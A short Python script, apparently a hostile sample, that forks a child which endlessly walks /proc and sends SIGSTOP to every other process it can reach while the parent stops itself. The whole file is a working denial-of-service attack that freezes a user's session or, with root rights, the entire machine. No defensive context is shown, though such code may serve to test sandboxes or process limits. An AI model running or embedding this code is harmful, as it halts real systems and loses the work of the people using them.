"""Stops itself, and leaves a child that stops every process it may, again and again."""

import os
import signal

if not os.fork():
    while True:
        for name in os.listdir("/proc"):
            if name.isdecimal() and int(name) != os.getpid():
                try:
                    os.kill(int(name), signal.SIGSTOP)
                except OSError:
                    pass
os.kill(os.getpid(), signal.SIGSTOP)
